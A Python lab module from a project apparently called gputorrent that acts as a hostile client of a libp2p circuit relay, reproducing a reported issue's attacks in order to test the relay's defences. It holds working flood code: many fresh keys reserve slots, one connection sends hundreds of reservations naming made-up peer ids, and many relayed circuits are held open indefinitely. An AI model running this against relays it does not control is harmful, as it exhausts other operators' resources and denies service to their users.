"""A hostile client of a relay, for tests and the lab: the attacks of issue #34, as a real
process on real hosts.

    python -m gputorrent.lab.relayflood reserve RELAY_ADDR --keys 16 --forged 200
    python -m gputorrent.lab.relayflood circuits CIRCUIT_ADDR [CIRCUIT_ADDR ...] --keys 16

``reserve``: each of ``--keys`` fresh keys reserves a slot for itself, then one connection asks
for ``--forged`` reservations naming made-up peer ids; prints one JSON line of what the relay
answered (status counts) and exits. ``circuits``: each of ``--keys`` fresh keys opens a relayed
connection to each target through its relay and holds them; prints one JSON line once they are
up, then waits until killed.
"""

from __future__ import annotations

import argparse
import json
import sys
from collections import Counter
from contextlib import AsyncExitStack
from typing import Any

import trio

from ..identity import Identity
from ..net import relay
from ..net.host import connect, finish_stream, running_host

AT_ONCE = 16  # forged requests in flight at once, one per stream (py-libp2p's relay reads one
# message per stream before a malformed one ends it)


async def _forge(host: Any, relay_addr: str, n: int, statuses: Counter) -> None:
    from libp2p.peer.id import ID
    from libp2p.relay.circuit_v2.pb.circuit_pb2 import HopMessage, PeerId
    from libp2p.relay.circuit_v2.protocol import PROTOCOL_ID
    from libp2p.relay.circuit_v2.utils import read_delimited_msg, write_delimited_msg

    relay_id = await connect(host, relay_addr)

    limit = trio.Semaphore(AT_ONCE)

    async def one() -> None:
        async with limit:
            try:
                stream = await host.new_stream(relay._id(relay_id), [PROTOCOL_ID])
            except Exception as exc:  # noqa: BLE001 (the relay may close on us: counted, not fatal)
                statuses[f"no stream: {type(exc).__name__}"] += 1
                return
            try:
                made_up = ID.from_base58(Identity.generate().peer_id)
                await write_delimited_msg(stream, HopMessage(type=HopMessage.RESERVE,
                                                             peer=PeerId(id=made_up.to_bytes())))
                with trio.fail_after(10):
                    resp = await read_delimited_msg(stream, HopMessage)
                statuses[str(resp.status)] += 1
            except Exception as exc:  # noqa: BLE001 (a stream the relay ended unanswered)
                statuses[f"ended: {type(exc).__name__}"] += 1
            finally:
                await finish_stream(stream, reset=True)

    async with trio.open_nursery() as n_:
        for _ in range(n):
            n_.start_soon(one)


async def reserve_flood(relay_addr: str, keys: int, forged: int) -> dict:
    statuses: Counter = Counter()
    own = {"reserved": 0, "refused": 0}
    async with AsyncExitStack() as stack:
        hosts = [await stack.enter_async_context(running_host(Identity.generate())) for _ in range(keys)]

        async def one(host: Any) -> None:
            try:
                await relay.reserve(host, relay_addr)
                own["reserved"] += 1
            except relay.RelayError:
                own["refused"] += 1

        async with trio.open_nursery() as n:
            for host in hosts:
                n.start_soon(one, host)
        await _forge(hosts[0], relay_addr, forged, statuses)
    return {**own, "forged": dict(statuses)}


async def hold_circuits(targets: list[str], keys: int) -> None:
    held: Counter = Counter()
    async with AsyncExitStack() as stack:
        hosts = [await stack.enter_async_context(running_host(Identity.generate())) for _ in range(keys)]

        async def one(host: Any, target: str) -> None:
            try:
                with trio.fail_after(20):
                    await relay.dial_relayed(host, target)
                held["held"] += 1
            except Exception as exc:  # noqa: BLE001 (a refused circuit is what the relay should do)
                held[f"refused: {str(exc)[-60:]}"] += 1

        async with trio.open_nursery() as n:
            for host in hosts:
                for target in targets:
                    n.start_soon(one, host, target)
        print(json.dumps(dict(held)), flush=True)
        await trio.sleep_forever()


def main(argv: list[str] | None = None) -> None:
    p = argparse.ArgumentParser(prog="python -m gputorrent.lab.relayflood", description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="mode", required=True)
    r = sub.add_parser("reserve")
    r.add_argument("relay")
    r.add_argument("--keys", type=int, default=16)
    r.add_argument("--forged", type=int, default=200)
    c = sub.add_parser("circuits")
    c.add_argument("targets", nargs="+")
    c.add_argument("--keys", type=int, default=16)
    args = p.parse_args(argv)
    if args.mode == "reserve":
        print(json.dumps(trio.run(reserve_flood, args.relay, args.keys, args.forged)), flush=True)
    else:
        trio.run(hold_circuits, args.targets, args.keys)
    sys.exit(0)


if __name__ == "__main__":
    main()
